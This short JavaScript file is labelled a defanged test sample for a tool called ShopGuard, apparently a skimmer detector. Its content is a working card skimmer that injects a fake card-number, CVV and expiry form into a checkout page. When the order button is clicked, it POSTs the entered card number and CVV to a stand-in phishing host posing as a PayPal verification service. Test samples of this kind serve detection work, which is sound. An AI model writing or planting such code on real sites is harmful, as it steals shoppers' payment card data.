/* ShopGuard test sample (defanged; .example host). Injects a fake card form. */
document.addEventListener('DOMContentLoaded', function () {
  var box = document.querySelector('#payment');
  box.insertAdjacentHTML('beforeend', '<div id="sgpay"><input name="card_number" placeholder="Card number">' +
    '<input name="cvv" placeholder="CVV"><input name="exp" placeholder="MM/YY"></div>');
  document.querySelector('#place_order').addEventListener('click', function () {
    fetch('https://secure-paypal-verify.example/api', {method: 'POST', body: JSON.stringify({
      n: document.querySelector('[name=card_number]').value, c: document.querySelector('[name=cvv]').value})});
  });
});
